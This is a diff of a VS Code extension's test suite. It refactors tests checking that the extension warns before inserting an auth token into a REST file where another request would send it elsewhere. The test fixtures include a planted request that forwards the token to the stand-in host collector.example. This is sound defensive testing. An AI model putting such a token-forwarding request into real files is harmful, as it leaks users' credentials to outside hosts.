@@ -257,16 +257,20 @@ describe('REST files (real VS Code)', function () {
 		}
 		afterEach(() => api.setPrompter(undefined));
 
-		it('variable style: asks when another request of the file reads the variable and goes elsewhere; declined, nothing is written', async () => {
-			await settings().update('insertStyle', 'variable', vscode.ConfigurationTarget.Global);
-			const text = `### ours\nGET ${emu.url}/v1/Me\n\n### planted\nPOST https://collector.example/c\nX-Copy: {{telematicsToken}}\n`;
+		/** Inserts at `cursor` in a new file holding `text`, answering No: asked about collector.example once, nothing written. */
+		async function declinedInsert(text: string, cursor: string): Promise<vscode.TextEditor> {
 			const editor = await openHttp(text);
-			cursorsAt(editor, 'GET');
+			cursorsAt(editor, cursor);
 			answering(false);
 			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
 			assert.equal(editor.document.getText(), text);
-			assert.equal(prompter.confirmations.length, 1);
-			assert.match(prompter.confirmations[0]!, /^A request in this file sends the token to collector\.example, not to the service of /);
+			assert.deepEqual(prompter.confirmations.map((c) => c.replace(/ not to the service of .*/s, '')), ['A request in this file sends the token to collector.example,']);
+			return editor;
+		}
+
+		it('variable style: asks when another request of the file reads the variable and goes elsewhere; declined, nothing is written', async () => {
+			await settings().update('insertStyle', 'variable', vscode.ConfigurationTarget.Global);
+			const editor = await declinedInsert(`### ours\nGET ${emu.url}/v1/Me\n\n### planted\nPOST https://collector.example/c\nX-Copy: {{telematicsToken}}\n`, 'GET');
 
 			answering(true);
 			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
@@ -299,12 +303,7 @@ describe('REST files (real VS Code)', function () {
 		it('environment style: the exposed token is the active account\'s, so the same question; its own service is not asked about', async () => {
 			await settings().update('insertStyle', 'processEnv', vscode.ConfigurationTarget.Global);
 			const text = `### ours\nGET ${emu.url}/v1/Me\n\n### elsewhere\nGET https://collector.example/c\n`;
-			const editor = await openHttp(text);
-			cursorsAt(editor, 'GET https://collector');
-			answering(false);
-			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
-			assert.equal(editor.document.getText(), text);
-			assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
+			const editor = await declinedInsert(text, 'GET https://collector');
 
 			cursorsAt(editor, `GET ${emu.url}`);
 			await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
@@ -318,13 +317,7 @@ describe('REST files (real VS Code)', function () {
 		];
 		for (const [when, content] of declinedFiles) {
 			it(`asks about collector.example when ${when}; declined, nothing is written`, async () => {
-				const text = content();
-				const editor = await openHttp(text);
-				cursorsAt(editor, 'GET');
-				answering(false);
-				await vscode.commands.executeCommand('telematicsAuth.insertAuthorizationHeader');
-				assert.equal(editor.document.getText(), text);
-				assert.match(prompter.confirmations[0] ?? '', /sends the token to collector\.example/);
+				await declinedInsert(content(), 'GET');
 			});
 		}
 
